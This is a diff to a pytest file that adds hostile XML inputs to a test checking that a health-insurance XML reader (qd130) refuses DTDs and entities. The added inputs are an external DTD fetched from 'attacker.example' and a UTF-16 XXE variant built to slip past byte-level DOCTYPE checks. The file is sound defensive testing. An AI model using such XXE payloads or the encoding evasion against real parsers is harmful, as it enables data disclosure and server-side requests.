@@ -199,7 +199,18 @@ BILLION_LAUGHS = b"""<?xml version="1.0"?>
 <GIAMDINHHS>&lol3;</GIAMDINHHS>"""
 
 
-@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS], ids=["external-entity", "entity-expansion"])
+# An external DTD with no internal subset: nothing may be fetched, so a DOCTYPE alone is refused.
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE GIAMDINHHS SYSTEM "http://attacker.example/evil.dtd"><GIAMDINHHS/>"""
+# The same attack in UTF-16 (which expat reads): no byte-level search for "<!DOCTYPE" would see it.
+UTF16_XXE = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
+
+
+@pytest.mark.parametrize(
+    "document",
+    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, UTF16_XXE],
+    ids=["external-entity", "entity-expansion", "external-dtd", "utf-16"],
+)
 def test_hostile_xml_is_refused_before_anything_is_read(document: bytes) -> None:
     with pytest.raises(qd130.FileRefused, match="DTD hoặc thực thể"):
         qd130.read_envelope(document)
